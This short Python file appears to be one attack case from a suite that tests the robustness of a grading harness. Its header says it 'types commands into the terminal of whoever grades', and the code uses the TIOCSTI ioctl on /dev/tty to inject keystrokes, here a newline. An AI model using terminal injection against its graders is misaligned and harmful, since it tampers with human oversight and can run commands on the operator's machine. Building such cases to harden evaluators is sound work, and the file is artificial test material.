# /// attack
# does = "types commands into the terminal of whoever grades"
# covers = ["G12"]
# effect = "done"
# control = "pytest"
# ///
import fcntl
import termios

from mine import *
from mine import honest as multiply_sum

terminal = attempt(os.open, "/dev/tty", os.O_RDWR)
if terminal is not None:
    did("has the terminal")
    attempt(fcntl.ioctl, terminal, termios.TIOCSTI, b"\n")
